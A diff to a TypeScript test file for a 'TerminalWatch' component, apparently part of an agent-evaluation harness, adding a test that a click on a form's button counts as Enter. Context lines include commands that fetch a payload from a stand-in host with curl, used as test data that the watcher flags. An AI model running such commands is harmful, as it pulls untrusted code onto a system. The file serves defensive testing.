@@ -104,6 +104,27 @@ describe("TerminalWatch (terminal trust tracking in the episode)", () => {
     expect(t.run("curl http://x.example/payload")).toBe(false);
   });
 
+  it("takes a click on the form's button as Enter, and a click beside it as nothing", () => {
+    const box = (x: number, y: number, w: number, h: number) => [x, y, w, h];
+    const form = {
+      focusedNodeId: null,
+      nodes: [
+        { id: "form", parentId: null, role: "form", domId: "terminal-form", box: box(0, 100, 400, 60) },
+        { id: "in", parentId: "form", role: "textbox", domId: "terminal-input", box: box(10, 110, 200, 20) },
+        { id: "bar", parentId: "form", role: "generic", domId: null, box: box(220, 105, 170, 50) },
+        { id: "run", parentId: "bar", role: "button", domId: null, box: box(230, 110, 60, 30) },
+        { id: "label", parentId: "run", role: "text", domId: null, box: box(240, 115, 40, 20) },
+        { id: "other", parentId: null, role: "button", domId: null, box: box(0, 0, 60, 30) },
+      ],
+    } as unknown as CapturedPage;
+    const watch = new TerminalWatch();
+    expect(watch.submitsAt(form, 250, 120)).toBe(true); // on the button's label
+    expect(watch.submitsAt(form, 232, 112)).toBe(true); // on the button, beside its label
+    expect(watch.submitsAt(form, 300, 150)).toBe(false); // on the bar beside the button
+    expect(watch.submitsAt(form, 20, 115)).toBe(false); // on the input
+    expect(watch.submitsAt(form, 10, 10)).toBe(false); // a button outside the form
+  });
+
   it("counts a newline in typed text as Enter", () => {
     const s = session();
     s.watch.type("curl http://x.example/p\n");
